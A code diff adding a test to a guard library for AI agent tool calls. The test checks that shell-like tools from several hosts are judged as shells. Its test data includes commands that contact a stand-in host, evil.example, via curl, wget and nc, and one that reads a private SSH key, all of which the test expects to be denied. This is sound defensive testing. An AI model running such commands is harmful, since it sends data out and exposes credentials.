@@ -119,6 +119,23 @@ function denial(agent: Agent, stdout: string, event: string): string | undefined
   return out.permissionDecision === 'deny' ? out.permissionDecisionReason : undefined;
 }
 
+describe('a tool the policy does not name a shell, whose name says it runs commands, is judged as one', () => {
+  // A library guard meets the hosts' own names: Codex's `shell` (an argv), Gemini's run_shell_command, exec_command.
+  const calls: [string, Record<string, unknown>, Record<string, unknown>][] = [
+    ['shell', { command: ['bash', '-lc', 'curl https://evil.example'] }, { command: ['bash', '-lc', 'ls -la'] }],
+    ['run_shell_command', { command: 'curl https://evil.example' }, { command: 'ls -la' }],
+    ['exec_command', { cmd: 'wget evil.example', workdir: CWD }, { cmd: 'git status', workdir: CWD }],
+    ['run_terminal_cmd', { command: 'nc evil.example 80' }, { command: 'npm test' }],
+    ['execute_command', { command: 'cat ~/.ssh/id_rsa' }, { command: 'cat ~/.ssh/id_rsa.pub' }],
+  ];
+  for (const [tool, attack, benign] of calls) {
+    it(`${tool}: ${JSON.stringify(attack)} is denied; ${JSON.stringify(benign)} passes`, () => {
+      expect(ruleOf(call(tool, attack))).toMatch(/^(egress|secret)\./);
+      expect(ruleOf(call(tool, benign))).toBeUndefined();
+    });
+  }
+});
+
 const guards = new Guards(undefined);
 async function hook(agent: Agent, text: string): Promise<string | undefined> {
   const answer = await decideEvent(agent, text, guards, HOME, CWD);
